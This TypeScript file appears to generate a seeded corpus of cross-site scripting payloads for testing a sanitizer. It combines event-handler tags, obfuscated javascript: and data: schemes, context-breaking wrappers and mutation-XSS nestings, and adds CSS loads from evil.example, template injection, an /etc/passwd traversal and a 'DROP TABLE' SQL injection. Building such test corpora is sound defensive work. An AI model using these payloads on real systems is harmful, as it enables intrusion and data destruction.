/** Numbers from 0 to 1 that are the same for the same seed (mulberry32). */
export function createRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** What every payload calls when it runs. Nothing else in a page is called so. */
export const alarm = "__pwned";
const call = `${alarm}(1)`;

const elements =
  "img svg video audio iframe object embed body input details marquee math style script link meta base form button isindex template portal frame applet".split(
    " ",
  );
const handlers =
  "onerror onload onclick onfocus onmouseover onbegin ontoggle onanimationstart onpointerenter onscroll onbeforeinput onpageshow onwheel".split(
    " ",
  );
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A&#x61vascript:",
  "\\u006aavascript:",
  "%6Aavascript:",
  "vbscript:",
  "livescript:",
  "data:text/html,",
  "data:text/html;base64,",
  "data:image/svg+xml,",
  "DATA:;base64,",
  "blob:null/",
  "filesystem:http://x/",
  "view-source:javascript:",
  "feed:javascript:",
  "jar:http://x!/",
  "file:///etc/passwd#",
  "intent://x#Intent;S.browser_fallback_url=javascript:",
  "//evil.example/",
  "\\\\evil.example\\",
  "http://user:pass@evil.example/",
  "http://ex\u0430mple.com/",
  "javascript://%0a",
  "x:javascript:",
  "http:javascript:",
  "mailto:a@b.c?body=javascript:",
  "tel:",
  "about:blank#",
  "chrome://",
  "res://",
  "ms-settings:",
] as const;
const wraps: readonly ((inside: string) => string)[] = [
  (x) => x,
  (x) => `"><${x}`,
  (x) => `'>${x}`,
  (x) => `</textarea>${x}`,
  (x) => `</title>${x}`,
  (x) => `</style>${x}`,
  (x) => `--><!-- -->${x}`,
  (x) => `]]>${x}`,
  (x) => `<![CDATA[${x}]]>`,
  (x) => `\${${x}}`,
  (x) => `{{${x}}}`,
  (x) => `<%= ${x} %>`,
  (x) => `#{${x}}`,
  (x) => `{{constructor.constructor('${x}')()}}`,
  (x) => `<noscript><p title="</noscript>${x}">`,
  (x) => `<svg><style>${x}</style>`,
  (x) => `<math><mtext><table><mglyph><style><!--</style>${x}`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `**${x}**`,
  (x) => `*${x}*`,
  (x) => `\`${x}\``,
  (x) => `- ${x}\n- ${x}`,
  (x) => escape(x),
  (x) => x.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (x) => x.replace(/</g, "\uFF1C").replace(/>/g, "\uFF1E"),
  (x) => [...x].join("\0"),
  (x) => x.toUpperCase(),
  (x) => `\u202E${x}\u202C`,
  (x) => `\uFEFF${x}`,
  (x) => `\uD800${x}\uDFFF`,
  (x) => `${x}${"\u0300\u0489".repeat(60)}`,
  (x) => x.repeat(40),
  (x) => `\u2028${x}\u2029`,
];
const links: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `[click](${url})`,
  (url) => `[**click**](${url})`,
  (url) => `[a](http://ok.example)[b](${url})`,
  (url) => `[click]( ${url} )`,
  (url) => `[click](<${url}>)`,
  (url) => `[click](${url} "title")`,
  (url) => `![pic](${url})`,
  (url) => `<${url}>`,
  (url) => `[[a](${url})](http://ok.example)`,
  (url) => `[http://ok.example](${url})`,
  (url) => `http://ok.example/${url}`,
  (url) => `http://ok.example/"onmouseover="${call}"x="${url}`,
  (url) => `mailto:a@b.example?subject=${url}`,
  (url) => `url(${url})`,
];
const odd: readonly string[] = [
  "__proto__",
  "constructor",
  "toString",
  "\u0000",
  "\uFFFF",
  "\u200B".repeat(50),
  "A\u030A".normalize("NFD"),
  "(((((((((((((((((((((((",
  "**".repeat(500),
  "[".repeat(500),
  "`".repeat(501),
  `${"[a](".repeat(200)}http://x`,
  `expression(${call})`,
  `red;background:url(javascript:${call})`,
  `</style><style>*{background:url('//evil.example')}`,
  `@import '//evil.example/x.css';`,
  `}*{display:none}`,
  "-moz-binding:url(//evil.example/x.xml#a)",
  "{{7*7}}",
  "${7*7}",
  "%s%s%n%x",
  "../../../../etc/passwd",
  "'; DROP TABLE customers; --",
  "x".repeat(20_000),
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}".repeat(300),
  "*, body, script, [href]",
  ":is(:has(*))",
  "a[href^='http']{}",
];

/** So many strings that want to be something else, each another; the same for the same seed. */
export function createCorpus(count: number, seed: number): readonly string[] {
  const random = createRandom(seed);
  const pick = <Value>(from: readonly Value[]): Value =>
    from[Math.floor(random() * from.length)] as Value;
  const quote = (): string => pick(['"', "'", "", "`"]);
  const element = (): string => {
    const [tag, at, with_] = [pick(elements), pick(handlers), quote()];
    const inner = pick([call, `eval('${call}')`, `top.${call}`, `(${alarm})\`1\``]);
    const space = pick([" ", "/", "\t", "\n", "\f", " x "]);
    const url = `${pick(schemes)}${call}`;
    return pick([
      `<${tag}${space}${at}=${with_}${inner}${with_}>`,
      `<${tag}${space}src=${with_}${url}${with_}${space}${at}=${inner}>`,
      `<${tag}${space}href=${with_}${url}${with_}${space}style="animation:x" ${at}=${inner}>click</${tag}>`,
      `<${tag}${space}srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;" data=${url}>`,
      `<${tag}>${inner}</${tag}>`,
      `<script${space}>${inner}</script${space}>`,
      `<a${space}xlink:href="${url}"><animate attributeName=href values="${url}">`,
    ]);
  };
  const url = (): string =>
    pick(links)(
      pick(schemes) +
        pick([
          call,
          `alert(1)`,
          btoa(`<script>parent.${call}</script>`),
          `<script>${call}</script>`,
        ]),
    );
  const bare = (): string =>
    pick(schemes) +
    pick([call, `alert(1)//${Math.floor(random() * 1e9)}`, `%0a${call}`, `//%0d${call}`]) +
    pick(["", "#", "?a=1", "\t", " ", "\0", Math.floor(random() * 1e9)]);
  const found = new Set<string>(odd);
  while (found.size < count) {
    const kind = random();
    const one =
      kind < 0.4
        ? pick(wraps)(element())
        : kind < 0.7
          ? pick(wraps)(url())
          : kind < 0.95
            ? bare()
            : pick(odd) + element();
    found.add(kind < 0.1 ? pick(wraps)(one) : one);
  }
  return [...found].slice(0, count);
}

/** Whether it is an address by itself, or wants to be one. */
export function isAddress(text: string): boolean {
  return schemes.some((scheme) => text.startsWith(scheme));
}
